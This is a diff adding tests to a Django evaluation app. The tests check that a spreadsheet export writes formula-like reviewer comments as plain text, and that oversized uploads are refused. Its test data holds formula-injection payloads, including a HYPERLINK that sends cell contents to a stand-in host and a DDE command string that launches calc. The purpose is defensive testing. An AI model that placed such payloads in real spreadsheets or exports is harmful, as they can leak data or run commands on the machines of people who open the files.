@@ -8,7 +8,8 @@ from openpyxl import load_workbook
 
 from evaluations import services, sheets
 from evaluations.models import Score, ScoreSheet
-from tests.factories import RoundFactory, submitted_sheet
+from branches import excel
+from tests.factories import RoundFactory, full_scores, submitted_sheet
 
 
 def exported(round_):
@@ -107,3 +108,47 @@ def test_the_import_page_dry_run_then_import(panel, client_for):
     assert ScoreSheet.objects.get(round=other).state == "submitted"
     export = client.get(reverse("evaluations:round_export", args=[other.pk]))
     assert export.status_code == 200 and export["Content-Type"].startswith("application/vnd.openxml")
+
+
+HOSTILE_COMMENTS = ["=HYPERLINK(\"http://evil.example/?\"&C2,\"详情\")", "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)",
+                    "响铃\x07转义\x1b[31m"]
+
+
+def test_the_export_writes_hostile_comments_as_text_and_reimports_them(panel, client_for):
+    pairs = [(panel.project_a, panel.reviewer_c), (panel.project_a, panel.reviewer_d),
+             (panel.project_a, panel.reviewer_c2), (panel.project_b, panel.reviewer_c),
+             (panel.project_b, panel.reviewer_d)]
+    for (project, reviewer), comment in zip(pairs, HOSTILE_COMMENTS):
+        sheet = services.assignment_add(round_=panel.round, project=project, reviewer=reviewer, actor=panel.tree.staff)
+        services.sheet_save(sheet=sheet, actor=reviewer, values=full_scores(panel.round, project, 8),
+                            comment=comment, submit=True)
+    response = client_for(panel.tree.staff).get(reverse("evaluations:round_export", args=[panel.round.pk]))
+    assert response.status_code == 200
+    data = b"".join(response.streaming_content)
+    sheet = load_workbook(io.BytesIO(data))["评分矩阵"]
+    assert sheet.freeze_panes == "A2"
+    headers = [cell.value for cell in sheet[1]]
+    comments = [row[i] for row in sheet.iter_rows(min_row=2) for i, h in enumerate(headers)
+                if h.endswith("｜评语") and row[i].value]
+    expected = sorted(excel.clean_text(c) for c in HOSTILE_COMMENTS)
+    assert sorted(c.value for c in comments) == expected
+    assert all(c.data_type == "s" for c in comments)
+    assert all(c.quotePrefix for c in comments if c.value[0] in "=+-@")
+    assert sheet.cell(row=2, column=1).data_type == "n"  # numbers stay numbers
+    # Into a fresh round: the same comments, the formula-like ones unchanged.
+    other = RoundFactory(batch=panel.round.batch)
+    result = sheets.check(upload(data), other)
+    assert result.ok, result.problems
+    sheets.apply(result, round_=other, actor=panel.tree.staff)
+    assert sorted(ScoreSheet.objects.filter(round=other).values_list("comment", flat=True)) == expected
+
+
+def test_a_score_sheet_longer_than_the_limit_is_refused_before_reading(panel):
+    from tests.branches.xlsx import inline_row, raw_xlsx
+
+    declared = raw_xlsx([inline_row(1, sheets.FIXED)], dimension="A1:D4000000")
+    gap = raw_xlsx([inline_row(1, sheets.FIXED), '<row r="4000000"/>'])
+    empty = raw_xlsx([inline_row(1, sheets.FIXED)] + [f'<row r="{n}"/>' for n in range(2, 2200)], tail="<<<不是XML")
+    for data in (declared, gap, empty):
+        result = sheets.check(upload(data), panel.round)
+        assert [p.message for p in result.problems] == ["文件超过单次导入上限 2000 行，请拆分后分批导入"]
